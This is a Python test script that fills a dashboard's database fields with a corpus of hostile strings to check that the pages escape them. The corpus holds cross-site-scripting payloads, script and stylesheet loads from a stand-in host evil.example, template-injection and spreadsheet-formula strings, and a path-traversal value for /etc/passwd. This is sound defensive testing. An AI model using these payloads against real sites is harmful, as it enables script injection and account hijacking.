"""Puts hostile words into every stored field that the dashboard shows, at DATABASE_URL."""

import asyncio
import json
import os
from pathlib import Path

from sqlalchemy import text

from core.db.session import Database
from core.stats.rebuild import rebuild

#: real ones lie beside the repository on some machines
NAUGHTY = Path(__file__).parents[3] / "shared" / "data" / "naughty_strings.json"
CORPUS = [
    "<script>window.__owned = 1</script>",
    "<img src=x onerror=window.__owned=1>",
    "\"><svg onload=window.__owned=1>",
    "javascript:window.__owned=1",
    "'-window.__owned=1-'",
    "</textarea><script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.__owned=1</script>'>",
    "<a href=\"javascript:window.__owned=1\">go</a>",
    "<style>@import 'http://evil.example/x.css';body{display:none}</style>",
    "<base href=//evil.example/><form action=//evil.example><input autofocus onfocus=window.__owned=1>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__owned=1&gt;\">",
    "{{constructor.constructor('window.__owned=1')()}}",
    "${window.__owned=1}",
    "=HYPERLINK(\"http://evil.example\",\"here\")",
    "\u202egnitirw si txet siht \u2066 the other way",
    "🧑‍🚀🏳️‍🌈" * 100,
    "a" * 5000,
    "Z̷͔̖̱a̴̙l̶̰g̸̱o̵͖",
    "\u200b\u200b\u2060\ufeff",
    "../../etc/passwd%00",
    "null",
    "-0",
    "1e309",
    "🤖 Привет مرحبا 你好",
]
#: so that each of them falls on a row of every page, however many lie beside the repository
OFTEN = 20
_PICK = "(cast(:words AS text[]))[1 + mod(abs(hashtext(({key})::text)), cardinality(cast(:words AS text[])))]"


def pick(key: str) -> str:
    return _PICK.format(key=key)


#: some rows of each table keep their own words, so that pages show both
STATEMENTS = [
    f"UPDATE messages SET content = {pick('id')} WHERE mod(abs(hashtext(id::text)), 3) = 0",
    f"UPDATE users SET first_name = {pick('id')}, last_name = {pick('-id')}, username = {pick('id * 7')}",
    f"UPDATE turns SET model_asked = {pick('id')}, model_served = {pick('id')}, provider = {pick('dialog_id')},"
    f" release = left({pick('id')}, 60) WHERE verdict IS NOT NULL AND mod(abs(hashtext(id::text)), 9) = 0",
    f"UPDATE turns SET error_kind = {pick('id')} WHERE error_kind IS NOT NULL AND mod(abs(hashtext(id::text)), 4) = 0",
    f"UPDATE turns SET language = left({pick('id')}, 30) WHERE verdict IS NOT NULL AND mod(abs(hashtext(id::text)), 19) = 0",
    f"UPDATE llm_attempts SET target = {pick('turn_id')}, error_kind = {pick('id')}, provider_code = {pick('id')}"
    " WHERE mod(abs(hashtext(turn_id::text)), 9) = 0",
    f"UPDATE stats_marks SET label = {pick('id')} WHERE mod(abs(hashtext(id::text)), 2) = 0",
    "INSERT INTO audit_log (id, actor, action, subject, address, trace_id, details)"
    " SELECT gen_random_uuid(), left(word, 60), 'dialog_opened', word, '::1', left(word, 30),"
    " json_build_object('reason', word) FROM unnest(cast(:words AS text[])) word",
]


async def main() -> None:
    words = [*CORPUS * OFTEN, *_naughty()]
    database = Database(os.environ["DATABASE_URL"], pool_size=2, max_overflow=0)
    for statement in STATEMENTS:
        async with database.write() as session:
            await session.execute(text(statement), {"words": words} if ":words" in statement else {})
    await rebuild(database)
    await database.close()


def _naughty() -> list[str]:
    if not NAUGHTY.is_file():
        return []
    words = json.loads(NAUGHTY.read_text())["strings"]
    return [word for word in words if word and "\0" not in word]


asyncio.run(main())
